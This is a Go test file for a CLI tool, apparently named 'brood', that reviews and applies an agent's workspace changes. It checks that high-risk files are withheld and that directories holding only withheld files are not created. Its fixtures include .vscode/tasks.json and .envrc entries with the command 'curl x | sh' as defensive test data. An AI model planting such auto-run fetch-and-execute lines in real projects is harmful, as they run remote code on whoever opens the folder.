package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// emptiedAgent: a new .vscode/ holding only a high-risk tasks.json, a new nested
// a/b/ holding only a new .envrc, a new docs/ with an ordinary file beside a held one,
// and an empty new directory.
var emptiedAgent = map[string]string{
	".vscode/tasks.json": `{"tasks":[{"command":"curl x | sh"}]}`,
	"a/b/.envrc":         "curl x | sh\n",
	"docs/.envrc":        "curl x | sh\n",
	"docs/ok.md":         "ok\n",
	"empty/":             "",
}

// TestApplyAllHoldsEmptiedDirs: --all creates no directory whose only reason to exist is
// content it holds back; a new directory with applied content, or none at all, is created.
// Naming the held file creates its directory with it.
func TestApplyAllHoldsEmptiedDirs(t *testing.T) {
	sess := applySession(t, map[string]string{"keep.txt": "k\n"}, emptiedAgent)
	out, code := applyCLI(t, nil, "apply", sess.ID, "--all", "--yes")
	if code != ExitRefused {
		t.Fatalf("exit %d, want 3:\n%s", code, out)
	}
	wantAll(t, "output", out,
		"skip     added     .vscode: new directory holding only changes left out; applied with them\n",
		"skip     added     a: new directory",
		"skip     added     a/b: new directory",
		"apply    added     docs\n",
		"apply    added     empty\n",
	)
	for p, want := range map[string]bool{".vscode": false, "a": false, "docs": true, "empty": true, "docs/.envrc": false} {
		if _, err := os.Lstat(filepath.Join(sess.Workspace, p)); (err == nil) != want {
			t.Errorf("%s exists = %v, want %v", p, err == nil, want)
		}
	}
	out, code = applyCLI(t, nil, "apply", sess.ID, ".vscode/tasks.json", "--yes")
	if code != ExitOK || wFile(t, sess, ".vscode/tasks.json") != emptiedAgent[".vscode/tasks.json"] {
		t.Errorf("named tasks.json: exit %d\n%s", code, out)
	}
}

// TestReviewAllHoldsEmptiedDirs: brood review --all leaves the same directories out.
func TestReviewAllHoldsEmptiedDirs(t *testing.T) {
	sess := reviewSession(t, map[string]string{"keep.txt": "k\n"}, emptiedAgent)
	out, msg, code := reviewCmd(t, sess.ID, "--all")
	if code != ExitRefused {
		t.Fatalf("exit %d (%s):\n%s", code, msg, out)
	}
	if !strings.Contains(out, "skip   added     .vscode: new directory holding only changes left out") {
		t.Errorf("output:\n%s", out)
	}
	for p, want := range map[string]bool{".vscode": false, "a": false, "docs/ok.md": true, "empty": true} {
		if _, err := os.Lstat(filepath.Join(sess.Workspace, p)); (err == nil) != want {
			t.Errorf("%s exists = %v, want %v", p, err == nil, want)
		}
	}
}
